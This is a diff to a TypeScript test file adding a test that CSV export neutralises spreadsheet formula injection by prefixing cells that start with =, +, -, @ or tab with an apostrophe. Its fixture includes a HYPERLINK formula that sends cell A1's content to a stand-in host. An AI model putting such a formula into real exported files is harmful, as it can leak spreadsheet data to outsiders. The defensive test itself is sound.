@@ -15,6 +15,7 @@ const files = await importUiModule("file-import.js");
 const queries = await importUiModule("query-request.js");
 const values = await importUiModule("arrow-values.js");
 const parquet = await importUiModule("parquet-export.js");
+const exports = await importUiModule("export-rows.js");
 
 let server: TestServer;
 before(async () => {
@@ -133,6 +134,32 @@ test("Parquet export of every common Arrow type → read back, each value as the
   const read = await parquetReadObjects({ file });
   assert.deepEqual(read[0], { small: 7, big: 4_000_000_000n, single: 0.5, at: new Date(at), day: new Date(Date.UTC(2024, 1, 29)), tags: ["a", null, ""], point: { x: 1.5, y: -2 } });
   assert.deepEqual({ ...read[1], tags: read[1]?.tags ?? null }, { small: null, big: 1n, single: null, at: null, day: null, tags: null, point: null });
+});
+
+test("CSV export of a QueryTable answer → text a spreadsheet would run as a formula (=, +, -, @, tab) written as text, ' first and quoted; negative numbers of number columns stay numbers", async () => {
+  const link = '=HYPERLINK("http://example.invalid/?d="&A1,"open")';
+  await expectJson(await server.upload("/v1/table/formulas/create", files.ipcStream(new Table({
+    n: vectorFromArray([-5, 1, 2, 3, 4, 5, 6, 7], new Int32()),
+    x: vectorFromArray([-2.25, 0.5, 1, 1, 1, 1, 1, 1], new Float64()),
+    label: vectorFromArray([link, "+1", "-2", "@SUM(A1)", "\tcmd", "a-b", "", null], new Utf8()),
+  }))));
+  const answer = await server.post("/v1/table/formulas/query", { k: 10, vector: null });
+  const { fields, rows } = values.decodeArrow(new Uint8Array(await answer.arrayBuffer()));
+  const text: string = exports.toCsv(fields, rows);
+  assert.deepEqual(text.split("\r\n"), [
+    "n,x,label",
+    `-5,-2.25,"'=HYPERLINK(""http://example.invalid/?d=""&A1,""open"")"`,
+    `1,0.5,"'+1"`,
+    `2,1,"'-2"`,
+    `3,1,"'@SUM(A1)"`,
+    `4,1,"'\tcmd"`,
+    "5,1,a-b",
+    `6,1,""`,
+    "7,1,",
+    "",
+  ]);
+  // Read back as CSV, each neutralised cell is its text with the ' before it.
+  assert.deepEqual(csv.parseCsv(text).rows.map((row: string[]) => row[2]), [`'${link}`, "'+1", "'-2", "'@SUM(A1)", "'\tcmd", "a-b", "", ""]);
 });
 
 test("queryRequest: a filtered sorted page, a vector search with a filter, a text search → the QueryTable bodies", () => {
